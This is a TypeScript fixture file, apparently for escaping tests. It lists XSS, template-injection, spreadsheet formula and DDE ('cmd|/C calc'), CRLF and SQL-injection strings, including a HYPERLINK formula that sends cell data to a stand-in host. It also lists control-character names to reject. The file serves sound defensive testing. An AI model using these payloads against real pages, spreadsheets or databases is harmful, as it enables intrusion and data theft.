/** Texts that would be executed if a page, URL, template or spreadsheet did not escape them. */
export const HOSTIS = [
  `<img src=x onerror="window.invadido=1">`,
  `"><script>window.invadido=1</script>`,
  `' onmouseover='window.invadido=1' x='`,
  `</title></textarea><svg onload=window.invadido=1>`,
  'javascript:window.invadido=1//',
  `{{constructor.constructor('window.invadido=1')()}}`,
  `\${window.invadido=1}`,
  '&lt;b&gt;&#106;&#97;&amp;',
  '[clique](javascript:window.invadido=1)',
  `=HYPERLINK("http://mau.example/?x="&A1;"clique")`,
  `+cmd|' /C calc'!A0`,
  '@SUM(1+1)*cmd',
  '-2+3+cmd',
  '＝1+1',
  `'=1+1`,
  'שלום Açaí',
  `%0d%0aSet-Cookie: a=b`,
  `'; drop table pedido; --`,
] as const

/** Texts that no name may hold: control characters break a line, cell or header. */
export const RECUSADOS = ['=1+1\tb', 'a\r=1+1', 'a\nb', 'a\0b', 'a\u001bb', 'a\ud800b'] as const
